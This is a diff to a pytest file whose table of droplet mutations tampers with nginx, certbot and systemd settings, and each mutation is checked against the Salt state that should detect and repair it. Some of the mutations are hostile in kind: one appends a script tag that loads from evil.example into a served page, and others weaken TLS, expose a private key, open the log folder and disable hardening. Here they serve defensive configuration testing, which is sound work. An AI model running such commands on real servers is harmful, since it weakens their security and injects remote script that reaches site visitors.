@@ -6,29 +6,65 @@ import pytest
 
 # What is done to the droplet | the state that must name it | a word of its changes.
 MUTATIONS = {
-    "site edited": ("sed -i 's/server_tokens/#/; s/^ssl_protocols.*/ssl_protocols TLSv1 TLSv1.1 TLSv1.2;/' /etc/nginx/sites-available/giggles", "nginx-site-giggles", "TLSv1.1"),
+    "site edited": (
+        "sed -i 's/server_tokens/#/; s/^ssl_protocols.*/ssl_protocols TLSv1 TLSv1.1 TLSv1.2;/' /etc/nginx/sites-available/giggles",
+        "nginx-site-giggles",
+        "TLSv1.1",
+    ),
     "nginx.conf broken": ("echo 'not a directive' >> /etc/nginx/nginx.conf", "nginx-configuration", "not a directive"),
-    "site added": ("printf 'server { listen 8081; }\\n' > /etc/nginx/sites-available/mine; ln -sfn ../sites-available/mine /etc/nginx/sites-enabled/mine", "nginx-sites-enabled-exact", "/etc/nginx/sites-enabled/mine"),
+    "site added": (
+        "echo 'server { listen 8081; }' > /etc/nginx/sites-available/mine; ln -s ../sites-available/mine /etc/nginx/sites-enabled/mine",
+        "nginx-sites-enabled-exact",
+        "/etc/nginx/sites-enabled/mine",
+    ),
     "site file added": ("touch /etc/nginx/sites-available/other", "nginx-sites-available-exact", "/etc/nginx/sites-available/other"),
-    "conf.d file added": ("echo 'client_max_body_size 9g;' > /etc/nginx/conf.d/big.conf", "nginx-conf.d-exact", "/etc/nginx/conf.d/big.conf"),
+    "conf.d file added": (
+        "echo 'client_max_body_size 9g;' > /etc/nginx/conf.d/big.conf",
+        "nginx-conf.d-exact",
+        "/etc/nginx/conf.d/big.conf",
+    ),
     "module added": ("touch /etc/nginx/modules-enabled/50-mine.conf", "nginx-modules-enabled-exact", "50-mine.conf"),
     "snippet added": ("touch /etc/nginx/snippets/mine.conf", "nginx-snippets-exact", "/etc/nginx/snippets/mine.conf"),
-    "site link swapped": ("ln -sfn /etc/nginx/nginx.conf /etc/nginx/sites-enabled/giggles", "nginx-site-giggles-enabled", "/etc/nginx/sites-enabled/giggles"),
+    "site link swapped": (
+        "ln -sfn /etc/nginx/nginx.conf /etc/nginx/sites-enabled/giggles",
+        "nginx-site-giggles-enabled",
+        "/etc/nginx/sites-enabled/giggles",
+    ),
     "site mode": ("chmod 0666 /etc/nginx/sites-available/giggles", "nginx-site-giggles", "0644"),
     "nginx.conf owner": ("chown www-data /etc/nginx/nginx.conf", "nginx-configuration", "root"),
-    "certificate link swapped": ("ln -sfn /etc/nginx/tls/placeholder /etc/nginx/tls/current", "certificate-linked", "/etc/letsencrypt/live"),
+    "certificate link swapped": (
+        "ln -sfn /etc/nginx/tls/placeholder /etc/nginx/tls/current",
+        "certificate-linked",
+        "/etc/letsencrypt/live",
+    ),
     "placeholder key exposed": ("chmod 0644 /etc/nginx/tls/placeholder/privkey.pem", "placeholder-certificate-present", "0600"),
-    "renewal hook added": ("mkdir -p /etc/letsencrypt/renewal-hooks/pre; touch /etc/letsencrypt/renewal-hooks/pre/mine", "renewal-pre-hooks-exact", "renewal-hooks/pre/mine"),
+    "renewal hook added": (
+        "mkdir -p /etc/letsencrypt/renewal-hooks/pre; touch /etc/letsencrypt/renewal-hooks/pre/mine",
+        "renewal-pre-hooks-exact",
+        "renewal-hooks/pre/mine",
+    ),
     "reload hook deleted": ("rm /etc/letsencrypt/renewal-hooks/deploy/reload-nginx", "renewal-reloads-nginx", "New file"),
     "renewal timer stopped": ("systemctl disable --now giggles-certbot.timer", "renewal-timer-running", "giggles-certbot.timer"),
-    "renewal unit edited": ("sed -i 's/renew/certificates/' /etc/systemd/system/giggles-certbot.service", "giggles-certbot.service-installed", "renew"),
+    "renewal unit edited": (
+        "sed -i 's/renew/certificates/' /etc/systemd/system/giggles-certbot.service",
+        "giggles-certbot.service-installed",
+        "renew",
+    ),
     "certbot deleted": ("rm /opt/certbot/current/bin/certbot", "certbot-installed", "built"),
     "certbot link swapped": ("ln -sfn /tmp /opt/certbot/current", "certbot-installed", "current"),
     "certbot settings edited": ("echo 'staging = true' >> /etc/letsencrypt/cli.ini", "certbot-settings", "staging = true"),
-    "nginx override added": ("printf '[Service]\\nNoNewPrivileges=no\\n' > /etc/systemd/system/nginx.service.d/zz.conf; systemctl daemon-reload", "nginx-unit-overrides-exact", "zz.conf"),
+    "nginx override added": (
+        "printf '[Service]\\nNoNewPrivileges=no\\n' > /etc/systemd/system/nginx.service.d/zz.conf; systemctl daemon-reload",
+        "nginx-unit-overrides-exact",
+        "zz.conf",
+    ),
     "log rotation deleted": ("rm /etc/logrotate.d/nginx", "nginx-logs-rotated", "New file"),
     "log folder opened": ("chmod 0777 /var/log/nginx", "nginx-logs-private", "0750"),
-    "unavailable page edited": ("echo '<script src=//evil.example></script>' >> /usr/local/share/giggles/web/giggles-unavailable.html", "nginx-unavailable-page", "evil.example"),
+    "unavailable page edited": (
+        "echo '<script src=//evil.example></script>' >> /usr/local/share/giggles/web/giggles-unavailable.html",
+        "nginx-unavailable-page",
+        "evil.example",
+    ),
     "nginx masked and stopped": ("systemctl stop nginx; systemctl mask nginx", "nginx-running", "nginx"),
 }
 
@@ -77,7 +113,7 @@ def test_missing_packages_come_back(droplet):
 def test_invalid_site_is_not_put_in_place(droplet):
     """A choice that nginx refuses leaves the site as it is, and nginx running."""
     before = droplet.shell("sha256sum /etc/nginx/sites-available/giggles")
-    droplet.shell("cp /srv/giggles-salt/salt/osmap.yaml /root/osmap.yaml; sed -i 's/^  tls_groups: .*/  tls_groups: \"no-such-group\"/' /srv/giggles-salt/salt/osmap.yaml")
+    droplet.shell("cd /srv/giggles-salt/salt; cp osmap.yaml /root/; sed -i 's/^  tls_groups: .*/  tls_groups: no-such-group/' osmap.yaml")
     try:
         outcome = droplet.apply("web")
     finally:
